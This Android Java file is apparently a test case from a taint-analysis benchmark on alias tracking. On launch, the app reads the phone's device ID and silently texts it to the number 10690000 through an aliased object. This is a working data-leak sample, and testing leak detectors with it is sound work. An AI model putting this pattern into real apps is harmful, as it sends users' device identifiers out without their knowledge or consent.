package cn.privlens.suite.alias_before_taint;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    static class Profile { String id = "none"; }
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Profile first = new Profile();
        Profile second = first;
        first.id = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
        send(second);
    }
    private void send(Profile profile) {
        SmsManager.getDefault().sendTextMessage("10690000", null, profile.id, null, null);
    }
}
